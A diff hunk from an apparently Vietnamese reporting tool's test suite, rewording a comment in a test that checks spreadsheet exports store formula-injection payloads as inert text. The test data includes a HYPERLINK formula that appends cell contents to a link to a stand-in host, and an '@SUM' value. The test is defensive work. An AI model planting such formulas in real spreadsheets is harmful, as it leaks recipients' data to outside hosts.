@@ -79,7 +79,7 @@ def test_period_report_writes_formulas_as_text(office_db, workspace, tmp_path):
     plain.write_bytes(protect.decrypt(out.read_bytes(), "Mk-bao-cao-2026!"))
     assert formula_cells_in_xml(plain) == []
     texts = texts_of(plain)
-    # The list sheet: the first rows are openpyxl cells, the rest are spliced XML: both hold the payloads.
+    # The list sheet: the first case is an openpyxl cell row, the rest are streamed rows (stream_rows): both hold the payloads.
     _assert_payloads_as_text(texts, "Danh sách trường hợp", expect_each=2)  # child's name and village
     cover = {v for _r, v, _q in texts["Bìa"]}
     assert '=HYPERLINK("http://x/"&B3)' in cover and "@SUM(A1)" in cover
